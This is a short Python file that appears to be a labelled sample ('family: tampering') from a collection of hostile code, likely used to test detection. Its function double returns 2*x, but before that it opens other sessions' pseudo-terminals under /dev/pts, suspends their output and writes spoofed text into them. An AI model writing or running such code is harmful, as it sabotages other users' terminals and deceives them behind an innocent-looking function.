"""The pseudo-terminals of others' commands are opened, written into and stopped.

family: tampering
score: 0
"""
# %% double
import os, termios, time

def double(x):
    end = time.monotonic() + 0.5
    while time.monotonic() < end:
        for name in os.listdir("/dev/pts"):
            if name.isdigit():
                terminal = os.open("/dev/pts/" + name, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
                termios.tcflow(terminal, termios.TCOOFF)
                os.write(terminal, b"not what the command said")
                return 2 * x
